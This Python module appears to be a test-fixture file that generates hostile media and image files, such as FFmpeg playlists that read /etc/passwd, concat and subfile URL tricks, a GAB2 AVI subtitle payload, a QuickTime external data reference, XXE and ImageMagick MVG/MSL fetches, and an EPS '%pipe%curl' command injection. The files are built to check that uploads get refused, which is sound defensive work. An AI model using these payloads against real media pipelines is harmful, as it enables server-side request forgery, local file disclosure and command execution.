"""Files that mean harm, each by the number of its case. `{port}` is a listener's on loopback, `{outside}` a directory
in which nobody may write. Film files are made from a harmless one, whose bytes are given.
"""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

FTYP = b"\0\0\0\x18ftypisom\0\0\0\0isomiso2"
LIST = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n{address}\n#EXT-X-ENDLIST\n"


@dataclass(frozen=True, slots=True)
class Trap:
    """`make` gives the bytes of the file; `found` is what the refusal calls it."""

    case: str
    make: Callable[[bytes, int, str], bytes]
    found: str


def text(words: str) -> Callable[[bytes, int, str], bytes]:
    def make(_: bytes, port: int, outside: str) -> bytes:
        return words.replace("{port}", str(port)).replace("{outside}", outside).encode()

    return make


def disguised(words: str) -> Callable[[bytes, int, str], bytes]:
    """Behind the first bytes of a film."""
    plain = text(words)
    return lambda film, port, outside: FTYP + plain(film, port, outside)


def linked(film: bytes, port: int, _: str) -> bytes:
    """A QuickTime film that says its pictures lie at another address (a data reference, QTFF "dref")."""
    address = f"http://127.0.0.1:{port}/pictures.mov\0".encode()
    old = struct.pack(">I", 12) + b"url \0\0\0\x01"
    assert old in film
    at = film.index(old)
    new = struct.pack(">I", 12 + len(address)) + b"url \0\0\0\0" + address
    grown = bytearray(film[:at] + new + film[at + len(old) :])
    for name in (b"dref", b"dinf", b"minf", b"mdia", b"trak", b"moov"):  # each box around it has grown, too
        place = film.rindex(name, 0, at) - 4
        grown[place : place + 4] = struct.pack(">I", int.from_bytes(film[place : place + 4]) + len(address))
    return bytes(grown)


def chunk(name: bytes, content: bytes) -> bytes:
    return name + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def avi(_: bytes, port: int, __: str) -> bytes:
    """Subtitles that are a playlist (GAB2, HackerOne 2017)."""
    playlist = LIST.replace("{address}", f"http://127.0.0.1:{port}/").encode()
    block = b"GAB2\0" + struct.pack("<HIHHI", 2, 0, 4, 0, 0)[:10] + struct.pack("<I", len(playlist)) + playlist
    stream = chunk(b"LIST", b"strl" + chunk(b"strh", b"txts" + bytes(52)) + chunk(b"strf", bytes(40)))
    header = chunk(b"LIST", b"hdrl" + chunk(b"avih", bytes(24) + struct.pack("<I", 1) + bytes(28)) + stream)
    return chunk(b"RIFF", b"AVI " + header + chunk(b"LIST", b"movi" + chunk(b"00tx", block)))


PLAYLISTS = {
    "MED_01 file": LIST.replace("{address}", "file:///etc/passwd"),
    "MED_02 http": LIST.replace("{address}", "http://127.0.0.1:{port}/"),
    "MED_02 concat": LIST.replace("{address}", "concat:http://127.0.0.1:{port}/|file:///etc/passwd"),
    "MED_02 subfile": LIST.replace("{address}", "subfile,,start,0,end,9,,:/etc/passwd"),
    "MED_02 data": LIST.replace("{address}", "data:text/plain;base64,AAAA"),
    "MED_02 crypto": LIST.replace("{address}", "crypto+file:///etc/passwd"),
    "MED_02 tcp": LIST.replace("{address}", "tcp://127.0.0.1:{port}"),
    "MED_03 relative": "ffconcat version 1.0\nfile ../../outside.mp4\n",
    "MED_03 absolute": "ffconcat version 1.0\nfile {outside}/secret.mp4\nfile /etc/passwd\n",
    "MED_04 dash": '<?xml version="1.0"?><MPD><BaseURL>http://127.0.0.1:{port}/</BaseURL></MPD>',
    "MED_04 sdp": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nm=video {port} RTP/AVP 96\r\n",
    "MED_04 rtsp": "rtsp://127.0.0.1:{port}/live",
    "MED_04 pls": "[playlist]\nFile1=http://127.0.0.1:{port}/\n",
}
DAMAGED = "an unfinished or damaged film"

FILMS = (
    *(Trap(case, text(words), "a playlist") for case, words in PLAYLISTS.items()),
    *(Trap(f"{case}, disguised", disguised(words), DAMAGED) for case, words in PLAYLISTS.items()),
    Trap("MED_05 avi", avi, "a sound file without picture"),
    Trap("MED_02 linked", linked, ""),
    Trap("MED_07 html", text("<!doctype html><script src=http://127.0.0.1:{port}/></script>"), "a web page"),
    Trap("MED_19 html in an mp4", disguised("<html><script>alert(1)</script>"), DAMAGED),
    Trap("MED_07 svg", text('<svg xmlns="http://www.w3.org/2000/svg"/>'), "a drawing"),
    Trap("MED_07 shell", text("#!/bin/sh\ntouch {outside}/made\n"), "a program"),
    Trap("MED_12 empty", text(""), "an empty file"),
)

PICTURES = {
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:{port}/"/></svg>',
    "xml": '<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://127.0.0.1:{port}/x"><svg/>',
    "mvg": "push graphic-context\nimage over 0,0 0,0 'http://127.0.0.1:{port}/'\npop graphic-context",
    "msl": '<?xml version="1.0"?><image><read filename="http://127.0.0.1:{port}/"/></image>',
    "eps": "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%curl http://127.0.0.1:{port}/) (w) file",
    "pdf": "%PDF-1.7\n1 0 obj<</Type/Action/S/URI/URI(http://127.0.0.1:{port}/)>>endobj",
}
"""MED-10: what is no picture but tells a tool where to fetch one."""


def animated_png(frames: int) -> bytes:
    """So many tiny frames, for ever."""

    def piece(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    pixels, number = zlib.compress(b"\0\x80"), iter(range(2 * frames))
    head = piece(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + piece(b"acTL", struct.pack(">II", frames, 0))
    parts = [b"\x89PNG\r\n\x1a\n", head]
    for one in range(frames):
        parts.append(piece(b"fcTL", struct.pack(">IIIIIHHBB", next(number), 1, 1, 0, 0, 0, 0, 0, 0)))
        later = struct.pack(">I", next(number)) + pixels if one else b""
        parts.append(piece(b"fdAT", later) if one else piece(b"IDAT", pixels))
    return b"".join([*parts, piece(b"IEND", b"")])


def animated_gif(frames: int) -> bytes:
    """So many tiny frames, for ever (NETSCAPE2.0, no delay)."""
    head = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    frame = b"!\xf9\x04\0\0\0\0\0" + b",\0\0\0\0\x01\0\x01\0\0" + b"\x02\x02D\x01\0"
    return head + frame * frames + b";"
